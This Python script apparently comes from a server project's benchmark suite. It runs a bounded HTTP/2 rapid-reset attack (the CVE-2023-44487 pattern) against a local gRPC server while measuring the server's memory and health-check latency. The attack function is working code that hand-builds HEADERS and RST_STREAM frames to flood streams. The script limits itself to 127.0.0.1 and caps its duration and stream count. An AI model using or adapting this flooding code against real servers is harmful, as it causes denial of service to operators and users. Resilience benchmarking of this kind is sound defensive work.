#!/usr/bin/python3
"""A bounded HTTP/2 rapid-reset attack (the CVE-2023-44487 pattern) on a local
rectify_server, with the server's RSS and a normal call's latency measured
while it runs.

Each attacking connection opens streams with HEADERS for a real method and
cancels each at once with RST_STREAM, without a token, as fast as it can; a
probe connection makes one ordinary gRPC call (grpc.health.v1.Health/Check)
every --probe_interval seconds and times it; the server's RSS is read from
/proc every half second, during the attack and for --settle seconds after.

It only ever connects to 127.0.0.1, and is bounded in time (--seconds, at most
60) and in streams (--max_streams). docs/benchmarks.md ("HTTP/2 rapid reset")
has the figures and bench/run_rapid_reset_bench.sh the command that makes them.

Uses Debian's python3-h2 and python3-hpack (scripts/install-deps); run with
/usr/bin/python3.

  /usr/bin/python3 bench/rapid_reset.py --port 50051 --pid 1234 --seconds 10
"""

import argparse
import socket
import statistics
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

HOST = "127.0.0.1"  # never anything else
ATTACK_PATH = "/rectify.v1.CaseService/GetCase"
PROBE_PATH = "/grpc.health.v1.Health/Check"


def headers(port, path):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "%s:%d" % (HOST, port)),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def connect(port, timeout):
    sock = socket.create_connection((HOST, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


class Attack:
    """Counters shared by the attacking threads."""

    def __init__(self, max_streams, deadline):
        self.lock = threading.Lock()
        self.max_streams = max_streams
        self.deadline = deadline
        self.streams = 0
        self.connections = 0
        self.errors = 0

    def take(self, count):
        """Claims up to `count` streams of the budget; 0 when it is spent."""
        with self.lock:
            if time.monotonic() >= self.deadline:
                return 0
            granted = min(count, self.max_streams - self.streams)
            self.streams += max(granted, 0)
            return max(granted, 0)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, GOAWAY = 4, 6, 7


def frame(kind, flags, stream_id, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream_id) + payload)


def attack_connection(port, attack, burst):
    """Opens and resets streams on one connection after another until the
    budget or the time is spent. The frames are written directly (one HPACK
    block, encoded once without references to the dynamic table, is valid
    for every stream), so that Python is not the bottleneck; h2 would spend
    tens of microseconds per stream on bookkeeping an attacker does not do."""
    block = hpack.Encoder().encode(headers(port, ATTACK_PATH))
    rst_payload = struct.pack(">I", 8)  # CANCEL
    while True:
        if time.monotonic() >= attack.deadline:
            return
        try:
            sock = socket.create_connection((HOST, port), timeout=5)
        except OSError:
            with attack.lock:
                attack.errors += 1
            time.sleep(0.05)
            continue
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        with attack.lock:
            attack.connections += 1
        inbound = b""
        stream_id = 1
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            while True:
                count = attack.take(burst)
                if count == 0:
                    return
                out = []
                for _ in range(count):
                    out.append(frame(1, 0x4, stream_id, block))  # HEADERS, END_HEADERS
                    out.append(frame(3, 0, stream_id, rst_payload))  # RST_STREAM
                    stream_id += 2
                sock.settimeout(5)
                sock.sendall(b"".join(out))
                # Acknowledge the server's SETTINGS and PINGs, ignore the rest.
                sock.setblocking(False)
                try:
                    while True:
                        received = sock.recv(1 << 16)
                        if not received:
                            raise ConnectionError("closed by the server")
                        inbound += received
                except BlockingIOError:
                    pass
                replies = []
                while len(inbound) >= 9:
                    length = int.from_bytes(inbound[:3], "big")
                    if len(inbound) < 9 + length:
                        break
                    kind, flags = inbound[3], inbound[4]
                    payload = inbound[9:9 + length]
                    inbound = inbound[9 + length:]
                    if kind == SETTINGS and not flags & 1:
                        replies.append(frame(SETTINGS, 1, 0, b""))
                    elif kind == PING and not flags & 1:
                        replies.append(frame(PING, 1, 0, payload))
                    elif kind == GOAWAY:
                        raise ConnectionError("GOAWAY")
                if replies:
                    sock.settimeout(5)
                    sock.sendall(b"".join(replies))
                if stream_id > (1 << 31) - 2 * burst:
                    raise ConnectionError("stream ids used up")
        except (OSError, ConnectionError):
            with attack.lock:
                attack.errors += 1
        finally:
            sock.close()


def probe_once(port, timeout):
    """Seconds one Health/Check call took, or None when it failed."""
    start = time.monotonic()
    try:
        sock, conn = connect(port, timeout)
        try:
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers(port, PROBE_PATH), end_stream=False)
            # An empty HealthCheckRequest: uncompressed, length 0.
            conn.send_data(stream_id, b"\x00\x00\x00\x00\x00", end_stream=True)
            sock.sendall(conn.data_to_send())
            status = None
            while True:
                received = sock.recv(1 << 16)
                if not received:
                    return None
                for event in conn.receive_data(received):
                    if isinstance(event, h2.events.TrailersReceived):
                        status = dict(event.headers).get("grpc-status")
                    if isinstance(event, h2.events.StreamEnded):
                        return time.monotonic() - start if status == "0" else None
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return None
                pending = conn.data_to_send()
                if pending:
                    sock.sendall(pending)
        finally:
            sock.close()
    except (OSError, h2.exceptions.ProtocolError):
        return None


def rss_mb(pid):
    try:
        with open("/proc/%d/status" % pid) as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024.0
    except OSError:
        return None
    return None


def percentile(values, fraction):
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True, help="the server's port on 127.0.0.1")
    parser.add_argument("--pid", type=int, required=True, help="the server's process id (for RSS)")
    parser.add_argument("--connections", type=int, default=2, help="attacking connections (1-16)")
    parser.add_argument("--seconds", type=float, default=10, help="attack length (at most 60)")
    parser.add_argument("--max_streams", type=int, default=5_000_000,
                        help="streams opened and reset in all, at most")
    parser.add_argument("--burst", type=int, default=500, help="streams per write")
    parser.add_argument("--settle", type=float, default=5, help="seconds measured after the attack")
    parser.add_argument("--probe_interval", type=float, default=0.2)
    parser.add_argument("--label", default="", help="printed on every line")
    args = parser.parse_args()
    if not 1 <= args.connections <= 16 or not 0 < args.seconds <= 60 or args.max_streams < 1:
        sys.exit("rapid_reset: --connections 1-16, --seconds up to 60, --max_streams >= 1")

    start = time.monotonic()
    attack = Attack(args.max_streams, start + args.seconds)
    latencies = []  # (phase, seconds or None)
    samples = []  # (t, rss)
    stop = threading.Event()

    def sample():
        while not stop.is_set():
            samples.append((time.monotonic() - start, rss_mb(args.pid)))
            stop.wait(0.5)

    def probe():
        while not stop.is_set():
            now = time.monotonic()
            phase = "attack" if now < attack.deadline else "after"
            latencies.append((phase, probe_once(args.port, timeout=15)))
            stop.wait(args.probe_interval)

    before = rss_mb(args.pid)
    helpers = [threading.Thread(target=sample), threading.Thread(target=probe)]
    attackers = [threading.Thread(target=attack_connection, args=(args.port, attack, args.burst))
                 for _ in range(args.connections)]
    for thread in helpers + attackers:
        thread.start()
    for thread in attackers:
        thread.join(timeout=args.seconds + 30)
    attack_end = time.monotonic() - start
    time.sleep(args.settle)
    stop.set()
    for thread in helpers:
        thread.join(timeout=30)

    label = ("[%s] " % args.label) if args.label else ""
    peak = max((rss for _, rss in samples if rss is not None), default=0)
    after = rss_mb(args.pid)
    print("%sstreams opened and reset: %d in %.1f s (%.0f/s) on %d connection(s), %d dropped"
          % (label, attack.streams, attack_end, attack.streams / max(attack_end, 1e-9),
             attack.connections, attack.errors))
    print("%sserver RSS MB: before %.0f, peak %.0f, %.0f s after the attack %s"
          % (label, before or 0, peak, args.settle,
             "%.0f" % after if after is not None else "(server gone)"))
    for phase in ("attack", "after"):
        done = [s * 1000 for p, s in latencies if p == phase and s is not None]
        failed = sum(1 for p, s in latencies if p == phase and s is None)
        if done:
            print("%sHealth/Check %s: %d ok, %d failed, p50 %.1f ms, p99 %.1f ms, max %.1f ms"
                  % (label, "during the attack" if phase == "attack" else "after it", len(done),
                     failed, statistics.median(done), percentile(done, 0.99), max(done)))
        else:
            print("%sHealth/Check %s: 0 ok, %d failed" % (label, phase, failed))
    print("%sRSS over time (s: MB): %s" % (label, ", ".join(
        "%.0f: %.0f" % (t, rss) for t, rss in samples[::2] if rss is not None)))


if __name__ == "__main__":
    main()
